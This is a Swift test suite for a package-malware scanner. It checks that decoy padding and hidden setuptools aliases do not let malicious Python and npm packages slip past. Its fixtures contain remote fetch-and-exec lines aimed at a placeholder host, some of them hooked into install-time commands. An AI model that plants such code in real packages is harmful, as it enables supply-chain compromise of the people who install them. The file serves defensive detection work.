import Foundation
import Screening
import TestSupport
import Testing

@testable import Analyzers

/// Much that is harmless in front of a payload: what is not followed any more is said, and waiting code costs loaded code nothing.
@Suite("Decoys")
struct DecoyTests {
    private static let fetch = "import urllib.request\nexec(urllib.request.urlopen('https://x.example/a').read())\n"
    private static let many = String(repeating: "    exec(a)\n", count: 3100)

    @Test("code that waits does not use up what is asked about code that runs")
    func waiting() throws {
        let artifact = try wheelCode("def z(a):\n\(Self.many)\n\(Self.fetch)")
        #expect(artifact.report().verdict == .malicious)
        let script = String(repeating: "eval(a);", count: 3100)
        let package = try npmCode(
            "function z(a) { \(script) }\nfetch('https://x.example').then(r => r.text()).then(t => eval(t))")
        #expect(package.report().verdict == .malicious)
    }

    @Test("code that runs and has too much to be followed is held")
    func running() throws {
        let decoys = Self.many.split(separator: "\n").map { $0.drop { $0 == " " } }.joined(separator: "\n")
        let artifact = try wheelCode("import sys\na = sys.argv[1]\n\(decoys)\n\(Self.fetch)")
        #expect(artifact.observations().contains("code-cut"))
        #expect(artifact.report().verdict >= .suspicious)
        let few = try wheelCode("import sys\na = sys.argv[1]\ndef run():\n    exec(a)\n")
        #expect(!few.observations().contains("code-cut"))
    }

    @Test("more decoded programs than are read hold the file")
    func decoded() throws {
        let harmless = (0..<210).map { number in
            let text = Array("import os\nprint(os.sep, \(number))\n".utf8)
            return "base64.b64decode('\(Data(text).base64EncodedString())')"
        }
        let artifact = try wheelCode("import base64\nx = [\n\(harmless.joined(separator: ",\n"))\n]\n")
        #expect(artifact.observations().contains("code-cut"))
        let one = try wheelCode("import base64\nx = \(harmless[0])\n")
        #expect(!one.observations().contains("code-cut"))
    }

    @Test("a command of developers that setup.cfg or the script gives itself does not wait")
    func aliases() throws {
        func script(_ more: String = "", _ setup: String = "setup(cmdclass={'upload': Upload})") -> String {
            "from setuptools import setup, Command\nfrom urllib.request import urlopen\nclass Upload(Command):\n"
                + "    def run(self):\n        exec(urlopen('https://x.example/a').read())\n\(more)\n\(setup)\n"
        }
        func isHeld(_ text: String, configuration: String = "") throws -> Bool {
            try sdistSetup(text) { tar in
                if !configuration.isEmpty { tar.addFile("acme_box-1.2.3/setup.cfg", configuration) }
            }.report().verdict == .malicious
        }
        #expect(try !isHeld(script()))
        #expect(try !isHeld(script(), configuration: "[metadata]\nname = acme-box\n"))
        #expect(try isHeld(script(), configuration: "[aliases]\negg_info = upload egg_info\n"))
        #expect(try isHeld(script("", "setup(cmdclass={'upload': Upload}, script_args=['up' + 'load'])")))
        #expect(try isHeld(script("c = {'upload': Upload}\nfor k in c: c[k](None).run()", "setup(cmdclass=c)")))
        #expect(try isHeld(script("", "d = setup(cmdclass={'upload': Upload})\nd.run_command(list(d.cmdclass)[0])")))
    }
}
